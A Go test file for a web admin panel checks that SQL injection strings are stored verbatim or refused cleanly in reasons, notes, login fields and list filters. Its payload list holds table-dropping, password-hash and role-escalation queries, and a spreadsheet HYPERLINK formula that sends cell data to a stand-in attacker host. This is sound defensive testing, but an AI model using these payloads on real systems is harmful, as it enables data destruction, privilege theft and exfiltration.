package web_test

import (
	"html"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"portpanel/auth"
	"portpanel/db"
	"portpanel/handlers/throttle"
	"portpanel/sysctl/sysctltest"
)

// injections are strings that would change a query built by pasting text
// into SQL, or a spreadsheet that opened the export. Each must come back
// exactly as typed. (No leading or trailing space: reasons are trimmed.)
var injections = []string{
	`' OR '1'='1`,
	`"; DROP TABLE users; --`,
	`'; DROP TABLE users; --`,
	`' UNION SELECT password_hash FROM users --`,
	`1; UPDATE users SET role='admin' WHERE 1=1; --`,
	`admin'--`,
	`%' OR name LIKE '%`,
	`\'; SELECT sqlite_version(); --`,
	"nul\x00byte",
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"⚠ ‮txt.exe 𝕏 漢字",
	longInjection(),
}

// longInjection is a reason of exactly the longest length allowed, 500
// characters, some of them two bytes long.
func longInjection() string {
	s := []rune(strings.Repeat("é' OR '1'='1 -- ", 40))
	return string(s[:499]) + "x"
}

var ddReason = regexp.MustCompile(`(?s)data-testid="(reason|decision-reason|proposal-reason)">(.*?)</dd>`)

// shown returns the texts a change page shows under testid.
func shown(page, testid string) []string {
	var out []string
	for _, m := range ddReason.FindAllStringSubmatch(page, -1) {
		if m[1] == testid {
			out = append(out, html.UnescapeString(strings.TrimSpace(m[2])))
		}
	}
	return out
}

// TestAttackSQLInjectionStoredVerbatim puts SQL injection strings into
// every free-text field there is: the change reason (form and API), the
// reject reason (form and API), the approval note, the rollback reason,
// the user name at sign-in, and the list filters (user, from, to). Each is
// stored and shown exactly as typed or refused with a 4xx that says why,
// and afterwards the tables are all there, no user was added or changed,
// and the audit chain verifies.
func TestAttackSQLInjectionStoredVerbatim(t *testing.T) {
	if !sysctltest.InNetns(t) { // approving and rolling back write the kernel
		return
	}
	e := newEnv(t, sysctltest.ProcSys())
	e.h.Changes.RequireApproval = true
	op := e.loginAs(t, "opal", auth.RoleOperator)
	opToken := e.bearer(t, "optoken", auth.RoleOperator)
	approver := e.loginAs(t, "appy", auth.RoleApprover)
	apToken := e.bearer(t, "aptoken", auth.RoleApprover)
	tables := tableNames(t, e)
	before := usersState(t, e)

	for i, p := range injections {
		low := strconv.Itoa(40000 + 2*i)
		// Proposed through the API, rejected through the form.
		res := op.postJSON("/api/v1/changes", `{"low":`+low+`,"high":50001,"reason":`+jsonString(p)+`}`, opToken.Clone())
		if res.StatusCode == http.StatusUnprocessableEntity {
			wantRefused(t, op, opToken, approver, apToken, p, decode[apiError](t, res).Error)
			continue
		}
		if res.StatusCode != http.StatusAccepted {
			t.Fatalf("propose %q through the API: %d %s", p, res.StatusCode, body(res))
		}
		id := decode[changeOut](t, res).ID
		res = approver.post("/changes/"+itoa(id)+"/reject", url.Values{"csrf": {approver.csrf("/")}, "reason": {p}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("reject with %q through the form: %d", p, res.StatusCode)
		}
		wantVerbatim(t, approver, apToken, id, p, p)

		// Proposed through the form, rejected through the API.
		form := changeForm(op.csrf("/"), strconv.Itoa(40001+2*i), "50001", p)
		review := body(op.post("/changes", form))
		res = op.post("/changes", with(form, "confirm", "yes", "base_file", hiddenInput(t, review, "base_file")))
		loc := res.Header.Get("Location")
		if res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(loc, "/changes/") {
			t.Fatalf("propose %q through the form: %d to %q\n%s", p, res.StatusCode, loc, body(res))
		}
		id, _ = strconv.ParseInt(strings.TrimPrefix(loc, "/changes/"), 10, 64)
		res = approver.postJSON("/api/v1/changes/"+itoa(id)+"/reject", `{"reason":`+jsonString(p)+`}`, apToken.Clone())
		if res.StatusCode != http.StatusOK {
			t.Fatalf("reject with %q through the API: %d %s", p, res.StatusCode, body(res))
		}
		wantVerbatim(t, approver, apToken, id, p, p)
	}

	// Approved with a note and rolled back with a reason, both injections.
	res := op.postJSON("/api/v1/changes", `{"low":45000,"high":50001,"reason":"to approve"}`, opToken.Clone())
	id := decode[changeOut](t, res).ID
	note, why := injections[0], injections[1]
	res = approver.post("/changes/"+itoa(id)+"/approve", url.Values{"csrf": {approver.csrf("/")}, "reason": {note}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("approve: %d", res.StatusCode)
	}
	wantVerbatim(t, approver, apToken, id, "to approve", note)
	e.h.Changes.RequireApproval = false
	res = approver.post("/changes/"+itoa(id)+"/rollback", url.Values{"csrf": {approver.csrf("/")}, "reason": {why}})
	loc := res.Header.Get("Location")
	if res.StatusCode != http.StatusSeeOther || loc == "/changes/"+itoa(id) {
		t.Fatalf("roll back: %d to %q", res.StatusCode, loc)
	}
	rb, _ := strconv.ParseInt(strings.TrimPrefix(loc, "/changes/"), 10, 64)
	wantVerbatim(t, approver, apToken, rb, why, "")

	// Too long is refused with a sentence, not cut, not a 500.
	for _, n := range []int{501, 20000} {
		res := op.postJSON("/api/v1/changes", `{"low":46000,"high":50001,"reason":"`+strings.Repeat("'", n)+`"}`, opToken.Clone())
		if out := decode[apiError](t, res); res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(out.Error, "500") {
			t.Errorf("a reason of %d characters: %d %q, want 422 saying the limit", n, res.StatusCode, out.Error)
		}
	}

	for _, p := range injections {
		wantFiltersInert(t, op, opToken, p)
	}
	wantLoginInert(t, e)

	if got := tableNames(t, e); got != tables {
		t.Errorf("the tables changed:\nbefore: %s\nafter:  %s", tables, got)
	}
	if after := usersState(t, e); after != before {
		t.Errorf("the users changed:\nbefore:\n%s\nafter:\n%s", before, after)
	}
	wantChainIntact(t, e)
}

// wantVerbatim checks change id's reason and decision reason through the
// API, on its page and in the audit log.
func wantVerbatim(t *testing.T, c *client, hdr http.Header, id int64, reason, decision string) {
	t.Helper()
	got := apiChange(t, c, hdr, id)
	if got.Reason != reason || got.DecisionReason != decision {
		t.Errorf("change %d through the API: reason %q, decision %q; want %q, %q", id, got.Reason, got.DecisionReason, reason, decision)
	}
	page := body(c.get("/changes/" + itoa(id)))
	if r := shown(page, "reason"); len(r) != 1 || r[0] != reason {
		t.Errorf("page of change %d shows the reason %q, want %q", id, r, reason)
	}
	if decision != "" {
		if r := shown(page, "decision-reason"); len(r) != 1 || r[0] != decision {
			t.Errorf("page of change %d shows the decision reason %q, want %q", id, r, decision)
		}
	}
	if !mentions(body(c.get("/changes")), reason) {
		t.Errorf("/changes does not show the reason %q", reason)
	}
	audit := body(c.get("/audit"))
	for _, s := range []string{reason, decision} {
		if s != "" && !mentions(audit, s) {
			t.Errorf("/audit does not show %q", s)
		}
	}
}

// wantRefused checks that a reason the API refused with msg is refused
// alike everywhere a reason goes (the form, a rejection) and nothing is
// recorded with it.
func wantRefused(t *testing.T, op *client, opToken http.Header, approver *client, apToken http.Header, p, msg string) {
	t.Helper()
	if msg == "" || !strings.Contains(strings.ToLower(msg), "reason") {
		t.Errorf("the reason %q was refused with %q, which does not say why", p, msg)
	}
	res := op.post("/changes", changeForm(op.csrf("/"), "44000", "50001", p))
	if page := body(res); res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(page, `id="reason-error"`) {
		t.Errorf("the form with the reason %q: %d, want 422 and the reason's error", p, res.StatusCode)
	}
	res = op.postJSON("/api/v1/changes", `{"low":44000,"high":50001,"reason":"a proposal to reject"}`, opToken.Clone())
	n := decode[changeOut](t, res).ID
	id := itoa(n)
	if res := approver.postJSON("/api/v1/changes/"+id+"/reject", `{"reason":`+jsonString(p)+`}`, apToken.Clone()); res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("reject with the reason %q through the API: %d, want 422", p, res.StatusCode)
	}
	approver.post("/changes/"+id+"/reject", url.Values{"csrf": {approver.csrf("/")}, "reason": {p}})
	if got := apiChange(t, approver, apToken, n); got.Status != db.StatusProposed {
		t.Errorf("rejecting with the reason %q through the form: the change is %s, want still proposed", p, got.Status)
	}
	// Withdrawn, so the next proposal is not refused as a duplicate.
	approver.postJSON("/api/v1/changes/"+id+"/reject", `{"reason":"withdrawn"}`, apToken.Clone())
}

// wantFiltersInert sends p as the user, from and to filters of the lists,
// pages, API and exports.
func wantFiltersInert(t *testing.T, c *client, hdr http.Header, p string) {
	t.Helper()
	q := url.Values{"user": {p}}.Encode()
	for _, path := range []string{"/api/v1/audit", "/api/v1/changes"} {
		res := c.do(http.MethodGet, path+"?"+q, hdr.Clone(), nil)
		b := body(res)
		if res.StatusCode != http.StatusOK || (!strings.Contains(b, `"events":[]`) && !strings.Contains(b, `"changes":[]`)) {
			t.Errorf("GET %s?user=%q: %d, want 200 and an empty list\n%.300s", path, p, res.StatusCode, b)
		}
	}
	for _, path := range []string{"/audit", "/changes"} {
		res := c.get(path + "?" + q)
		page := body(res)
		if res.StatusCode != http.StatusOK || hiddenInput(t, page, "user") != p || !strings.Contains(page, `data-testid="empty"`) {
			t.Errorf("GET %s?user=%q: %d, want 200, the filter shown as typed and no rows", path, p, res.StatusCode)
		}
	}
	for _, path := range []string{"/audit/export", "/changes/export"} {
		res := c.get(path + "?format=csv&" + q)
		if b := body(res); res.StatusCode != http.StatusOK || strings.Count(b, "\n") != 1 {
			t.Errorf("GET %s?user=%q: %d, want the CSV header alone\n%.300s", path, p, res.StatusCode, b)
		}
	}
	for _, param := range []string{"from", "to"} {
		for _, path := range []string{"/api/v1/audit", "/api/v1/changes", "/audit", "/changes/export"} {
			res := c.do(http.MethodGet, path+"?"+url.Values{param: {p}}.Encode(), hdr.Clone(), nil)
			if b := body(res); res.StatusCode != http.StatusBadRequest || !strings.Contains(b, param+" must be a date") {
				t.Errorf("GET %s?%s=%q: %d, want 400 saying %s must be a date\n%.300s", path, param, p, res.StatusCode, param, b)
			}
		}
	}
}

// wantLoginInert signs in with injections as the name and the password:
// every attempt fails alike, shows the name as typed, and is audited.
func wantLoginInert(t *testing.T, e *env) {
	t.Helper()
	// Throttling is TestAttackBruteForce's subject: here every attempt must
	// reach the password check.
	e.h.Throttle = throttle.New(throttle.Config{Free: 1000, FreePerAddress: 1000})
	failedBefore, _ := auditActions(t, e)
	attempts := 0
	passwords := []string{`' OR '1'='1`, testPassword + `' OR '1'='1`, `x' OR password_hash LIKE '%`}
	for i, name := range append([]string{"opal' --", "opal'/*", `opal" OR "1"="1`}, injections...) {
		for _, password := range []string{passwords[i%len(passwords)]} {
			c := e.client(t)
			res := c.post("/login", url.Values{"username": {name}, "password": {password}, "csrf": {c.csrf("/login")}})
			attempts++
			page := body(res)
			if res.StatusCode != http.StatusUnauthorized || !strings.Contains(page, "Wrong user name or password.") {
				t.Errorf("sign in as %q with %q: %d, want 401\n%.300s", name, password, res.StatusCode, page)
				continue
			}
			if got := hiddenInput(t, page, "username"); got != name {
				t.Errorf("the form after a failed sign-in as %q shows %q", name, got)
			}
		}
	}
	after, _ := auditActions(t, e)
	if got := after["login.failed"] - failedBefore["login.failed"]; got != attempts {
		t.Errorf("%d failed sign-ins audited, want %d", got, attempts)
	}
}
